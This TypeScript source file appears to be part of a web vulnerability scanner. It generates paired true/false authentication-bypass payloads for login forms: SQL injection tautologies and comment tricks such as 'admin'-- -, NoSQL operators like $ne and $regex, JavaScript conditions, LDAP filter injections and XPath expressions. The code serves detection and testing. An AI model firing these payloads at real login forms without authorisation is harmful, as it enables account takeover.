import type { LoginChange } from './entrance.ts';
import { type Credential, type Login, loginAction, nobody } from './login.ts';

type SentCredentials = { name?: Credential; password?: Credential };

/** A change that is evaluated: its twin differs in what it evaluates to, and in nothing else. */
function evaluated(login: Login, what: string, changed: SentCredentials, twin: SentCredentials): LoginChange[] {
  const base = nobody(login);
  const send = ({ name = base.name, password = base.password }: SentCredentials) => loginAction(login, name, password);
  const [one, other] = [send(changed), send(twin)];
  // Where there is no field for it, a change changes nothing.
  const isNone = one && other && JSON.stringify(one) === JSON.stringify(other);
  return one && other && !isNone ? [{ what, changed: one, twin: other, isEvaluated: true }] : [];
}

/** A condition that always holds, or never, in a field behind a value that nobody has. */
function conditionIn(
  login: Login,
  field: 'name' | 'password',
  write: (value: string, isTrue: boolean) => string,
): LoginChange[] {
  const value = nobody(login)[field];
  const where = field === 'name' ? 'the user name' : 'the password';
  return evaluated(
    login,
    `a condition that always holds in ${where}`,
    { [field]: write(value, true) },
    { [field]: write(value, false) },
  );
}

const fields = ['name', 'password'] as const;
const quotes = ["'", '"'] as const;

/**
 * Ways around a login whose statement holds the values as text. Conditions end where the first row is found; what follows a quote
 * is a comment, or closes the quote. Upper case keeps them from being XPath.
 */
export function sqlChanges(login: Login): LoginChange[] {
  const compare = (isTrue: boolean) => `‹int›=‹int›${isTrue ? '' : '1'}`;
  const known = (quote: string): LoginChange[] =>
    login.isMail
      ? []
      : evaluated(
          login,
          'the rest of the statement turned into a comment behind the name "admin"',
          { name: `admin${quote}-- -` },
          { name: `‹nonce›${quote}-- -` },
        );
  const conditions = quotes.flatMap((quote) =>
    fields.flatMap((field) => [
      ...['', ')'].flatMap((end) =>
        [' LIMIT 1', ''].flatMap((limit) =>
          conditionIn(login, field, (value, isTrue) => `${value}${quote}${end} OR ${compare(isTrue)}${limit}-- -`),
        ),
      ),
      ...conditionIn(
        login,
        field,
        (value, isTrue) => `${value}${quote} OR ${quote}‹int›${quote}=${quote}‹int›${isTrue ? '' : '1'}`,
      ),
      ...conditionIn(login, field, (value, isTrue) => `${value}${quote}||${compare(isTrue)}#`),
    ]),
  );
  return [...conditions.slice(0, 1), ...known("'"), ...conditions.slice(1), ...known('"')];
}

/** Operators of document databases, and conditions in JavaScript. */
export function nosqlChanges(login: Login): LoginChange[] {
  const operators = (what: string, whenTrue: Credential, whenFalse: Credential): LoginChange[] => [
    ...evaluated(
      login,
      `${what} in both fields`,
      { name: whenTrue, password: whenTrue },
      { name: whenFalse, password: whenFalse },
    ),
    ...evaluated(
      login,
      `the name "admin" and ${what} as the password`,
      { name: 'admin', password: whenTrue },
      { name: 'admin', password: whenFalse },
    ),
  ];
  const member = (name: string, value: string): Credential => ({ member: name, value });
  const scripts = quotes.flatMap((quote) =>
    fields.flatMap((field) =>
      conditionIn(
        login,
        field,
        (value, isTrue) => `${value}${quote}||‹int›===‹int›${isTrue ? '' : '1'}||${quote}a${quote}===${quote}b`,
      ),
    ),
  );
  return [
    ...operators(
      'the operator "is not" with a value that nobody has',
      member('$ne', '‹nonce3›'),
      member('$eq', '‹nonce3›'),
    ),
    ...operators('the operator "greater than" with nothing', member('$gt', ''), member('$lt', '')),
    ...operators('a pattern that fits anything', member('$regex', '.'), member('$regex', '^‹nonce3›$')),
    ...scripts,
  ];
}

/** Filters of directories and expressions of XML. Names of operators and functions tell them from SQL. */
export function directoryChanges(login: Login): LoginChange[] {
  const filters = [
    ...evaluated(
      login,
      'an asterisk in both fields',
      { name: '*', password: '*' },
      { name: '‹nonce›*', password: '‹nonce2›*' },
    ),
    ...evaluated(
      login,
      'a filter that closes early in the user name',
      { name: '*)(objectClass=*))(&(objectClass=q‹int›' },
      { name: '‹nonce›)(objectClass=*))(&(objectClass=q‹int›' },
    ),
  ];
  const expressions = quotes.flatMap((quote) =>
    fields.flatMap((field) =>
      conditionIn(
        login,
        field,
        (value, isTrue) =>
          `${value}${quote} or starts-with(${quote}‹int›${isTrue ? '1' : ''}${quote},${quote}‹int›${isTrue ? '' : '1'}${quote}) or ${quote}a${quote}=${quote}b`,
      ),
    ),
  );
  return [...filters, ...expressions];
}
